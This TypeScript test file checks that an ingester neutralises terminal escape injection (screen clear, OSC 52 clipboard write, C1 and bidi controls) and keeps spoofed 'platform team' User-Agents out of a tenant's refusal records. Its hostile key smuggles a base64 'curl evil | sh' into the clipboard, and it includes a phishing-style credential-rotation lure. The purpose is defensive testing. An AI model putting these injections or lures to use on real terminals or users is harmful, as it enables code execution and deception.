/**
 * Sender text is inert and attributed (docs/design.md §4b, rule 4), through the built ingester:
 *
 * - a data point whose unknown JSON key holds ESC/BEL sequences (a screen clear, a window title,
 *   OSC 52 writing the clipboard), and a User-Agent with the one-byte C1 CSI (0x9b) and a bidi
 *   override, reach neither the answer's message, the activity record, `intake status` (table or
 *   -o json) nor the logs as control characters;
 * - wrong-password requests whose User-Agent poses as the platform ("URGENT from intake platform
 *   team ...") never appear in the integration's recent refusals and never push its real ones
 *   out: they are kept apart, as an address and a count.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { jest } from '@jest/globals';
import type { ActivityReport, ReportedActivity } from '../../api/activity.js';
import { ROOT } from '../support/paths.js';
import { rawPost } from '../support/raw-http.js';
import { waitFor } from '../support/waiting.js';
import {
  API_KEY,
  basic,
  post,
  startIngester,
  tenantAuth,
  tenantRoute,
  type RunningIngester,
} from './support/ingester.js';

jest.setTimeout(120_000);

const run = promisify(execFile);
const intake = (args: string[]) =>
  run(process.execPath, [join(ROOT, 'dist/cmd/intake.js'), ...args], { encoding: 'buffer' });

/** Bytes a terminal acts on: C0 but newline, DEL, C1 (as UTF-8), bidi controls (as UTF-8). */
// eslint-disable-next-line no-control-regex -- control characters are what it looks for
const ACTS_ON_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
/** Every string in a JSON value that holds a control or bidi character. */
function unsafeStrings(value: unknown): string[] {
  const found: string[] = [];
  JSON.stringify(value, (key: string, v: unknown) => {
    if (ACTS_ON_TERMINAL.test(key)) found.push(key);
    if (typeof v === 'string' && ACTS_ON_TERMINAL.test(v)) found.push(v);
    return v;
  });
  return found;
}

/** A key that clears the screen, recolours, sets the window title and writes the clipboard. */
const HOSTILE_KEY = 'x\x1b[2J\x1b[31mred\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
/** The platform's voice, from anyone. */
const URGENT =
  'URGENT from intake platform team: your credentials leaked, rotate now at https://intake-support.example';

let ing: RunningIngester;
let dir: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'intake-e2e-sender-text-'));
  ing = await startIngester((c) => {
    (c.routes as unknown[]).push(
      tenantRoute('b', 'team-b'),
      // A mapping whose error quotes the payload: the sender's text in intake's message.
      tenantRoute('quoting', 'team-b', { mapping: { expression: '$error("cannot map: " & note)' } }),
    );
    c.deadLetter = { path: join(dir, 'deadletter.sqlite') };
  });
});
afterAll(async () => {
  await ing?.stop();
  rmSync(dir, { recursive: true, force: true });
});

async function report(): Promise<ActivityReport> {
  const res = await fetch(`${ing.adminUrl}/status/activity`);
  expect(res.status).toBe(200);
  return (await res.json()) as ActivityReport;
}
const find = (list: ReportedActivity[], name: string): ReportedActivity | undefined =>
  list.find((a) => a.name === name);

describe('terminal escapes in sender text', () => {
  it('an unknown JSON key with ESC/BEL/OSC 52 and a User-Agent with C1 0x9b and a bidi override are stored and printed inert', async () => {
    // The bidi override as its UTF-8 bytes in a latin1 header: U+202E arrives as "â\x80®".
    const ua = `curl\u009b2J ${Buffer.from('\u202eUTPGRU', 'utf8').toString('latin1')}`;
    const points = [{ metric: 'cpu', data: 1, source: 'h1', [HOSTILE_KEY]: 1 }];
    const res = await rawPost(
      `${ing.url}/v1/integrations/metrics`,
      { apikey: API_KEY, 'user-agent': ua },
      JSON.stringify(points),
    );
    expect(res.status).toBe(400);
    // The answer names the field, escaped (JSON would keep \x1b as \u001b: a client printing the message would run it).
    const answer = JSON.parse(res.text) as { errors: Array<{ field: string }>; message: string };
    expect(unsafeStrings(answer)).toEqual([]);
    expect(answer.errors[0]?.field).toBe('x\\x1b[2J\\x1b[31mred\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07');

    const key = await waitFor('the refusal recorded', async () => {
      const got = find((await report()).apiKeys, 'default');
      return got && got.recentRefusals.length > 0 ? got : undefined;
    });
    const refusal = key.recentRefusals[0];
    expect(refusal).toMatchObject({ status: 400, code: 'INVALID_BODY', reason: 'invalid', remoteAddress: '127.0.0.1' });
    expect(refusal?.message).toContain('(x\\x1b[2J');
    expect(refusal?.userAgent).toBe('curl\\x9b2J â\\x80®UTPGRU');
    const raw = await (await fetch(`${ing.adminUrl}/status/activity`)).text();
    expect(raw).not.toMatch(/\\u001b|\\u0007|\u009b|\u0080/);
    expect(unsafeStrings(JSON.parse(raw))).toEqual([]);

    // intake status: the table, and -o json, carry no control byte to the terminal.
    const table = (await intake(['status', '--admin-url', ing.adminUrl])).stdout as unknown as Buffer;
    const text = table.toString('utf8');
    expect(text).toMatch(/recent refusals \(newest first\):/);
    expect(text).toContain('user-agent "curl\\x9b2J');
    expect(text.replace(/\n/g, '')).not.toMatch(ACTS_ON_TERMINAL);
    expect(table.includes(0x1b)).toBe(false);
    expect(table.includes(0x07)).toBe(false);
    const json = (
      (await intake(['status', '--admin-url', ing.adminUrl, '-o', 'json'])).stdout as unknown as Buffer
    ).toString('utf8');
    expect(json.replace(/\n/g, '')).not.toMatch(ACTS_ON_TERMINAL);
    expect(find((JSON.parse(json) as ActivityReport).apiKeys, 'default')?.recentRefusals[0]?.userAgent).toBe(
      refusal?.userAgent,
    );

    // Nor do the ingester's own logs.
    expect(ing.stderr().replace(/\n/g, '')).not.toMatch(ACTS_ON_TERMINAL);
  });
});

describe('terminal escapes a mapping quotes from the payload', () => {
  it('a $error text with ESC/BEL reaches the answer, the activity, the dead letter and intake deadletter list inert', async () => {
    const res = await post(
      `${ing.url}/events/webhook_quoting`,
      { note: '\x1b]0;pwned\x07\x1b[2J\u202eolleh' },
      { ...tenantAuth('quoting'), 'user-agent': 'mapper/1.0' },
    );
    expect(res.status).toBe(422);
    expect(unsafeStrings(res.json())).toEqual([]);
    expect(String(res.json().message)).toContain('cannot map: \\x1b]0;pwned\\x07\\x1b[2J\\u202eolleh');
    const quoting = await waitFor('the refusal recorded', async () => {
      const got = find((await report()).webhookIntegrations, 'quoting');
      return got && got.recentRefusals.length > 0 ? got : undefined;
    });
    expect(unsafeStrings(quoting)).toEqual([]);
    expect(quoting.recentRefusals[0]?.message).toContain('\\x1b]0;pwned');
    const letters = await (await fetch(`${ing.adminUrl}/deadletter?payload=true`)).json();
    // The payload is the sender's data, kept as sent for replay; what intake says of it is inert.
    const reasons = (letters as { entries: Array<{ reason: string }> }).entries.map((e) => e.reason);
    expect(reasons.some((r) => r.includes('cannot map: \\x1b]0;pwned'))).toBe(true);
    expect(unsafeStrings(reasons)).toEqual([]);
    const listed = (
      (await intake(['deadletter', 'list', '--admin-url', ing.adminUrl])).stdout as unknown as Buffer
    ).toString('utf8');
    expect(listed).toContain('cannot map: \\x1b]0;pwned');
    expect(listed.replace(/\n/g, '')).not.toMatch(ACTS_ON_TERMINAL);
    const json = (
      (await intake(['deadletter', 'list', '--admin-url', ing.adminUrl, '-o', 'json'])).stdout as unknown as Buffer
    ).toString('utf8');
    // -o json keeps the payload's value (a program reads the same JSON), every unsafe character a \u escape.
    expect(json.replace(/\n/g, '')).not.toMatch(ACTS_ON_TERMINAL);
    expect(JSON.stringify(JSON.parse(json))).toContain('\\u001b]0;pwned');
  });
});

describe("strangers' text in a tenant's activity", () => {
  it("wrong-password requests posing as the platform neither show their text nor push the tenant's real refusals out", async () => {
    const auth = tenantAuth('b');
    // Two refusals b earned itself, with its real sender's User-Agent.
    for (const body of [{ severity: 'critical' }, { source: 'h', severity: 'nope' }])
      expect((await post(`${ing.url}/events/webhook_b`, body, { ...auth, 'user-agent': 'b-sender/1.0' })).status).toBe(
        400,
      );
    // Then a stranger: 24 wrong passwords from two addresses, each posing as the platform team.
    const stranger = await Promise.all(
      Array.from({ length: 24 }, (_, i) =>
        rawPost(
          `${ing.url}/events/webhook_b`,
          { authorization: basic('b', `guess-${i}`), 'user-agent': `${URGENT} \u009b${i}` },
          '{"source":"h","severity":"critical"}',
          i % 2 === 0 ? '127.0.0.2' : '127.0.0.3',
        ),
      ),
    );
    expect(stranger.filter((r) => r.status !== 401)).toEqual([]);

    const b = await waitFor('the refusals recorded', async () => {
      const got = find((await report()).webhookIntegrations, 'b');
      return got && got.refusedLastHour >= 26 ? got : undefined;
    });
    // b's own refusals are all there, with its sender's User-Agent; no stranger is among them.
    expect(b.recentRefusals.map((f) => [f.status, f.code, f.userAgent])).toEqual([
      [400, 'INVALID_BODY', 'b-sender/1.0'],
      [400, 'INVALID_BODY', 'b-sender/1.0'],
    ]);
    expect(b.refusalsLastHour).toEqual({ invalid: 2, unauthorized: 24 });
    // The stranger: its address and a count, nothing it wrote.
    expect((b.unauthenticatedSenders ?? []).map((s) => [s.remoteAddress, s.reason, s.count]).sort()).toEqual([
      ['127.0.0.2', 'unauthorized', 12],
      ['127.0.0.3', 'unauthorized', 12],
    ]);
    const everything = JSON.stringify(await report());
    expect(everything).not.toMatch(/URGENT|rotate now|intake-support/);

    const text = ((await intake(['status', '--admin-url', ing.adminUrl])).stdout as unknown as Buffer).toString('utf8');
    expect(text).not.toMatch(/URGENT|rotate now/);
    expect(text).toMatch(/refused before authentication \(address and count only; anyone can send these\):/);
    expect(text).toMatch(/team-b\/b {2}401 UNAUTHORIZED \(unauthorized\) {2}from 127\.0\.0\.[23]: 12 since /);
  });
});
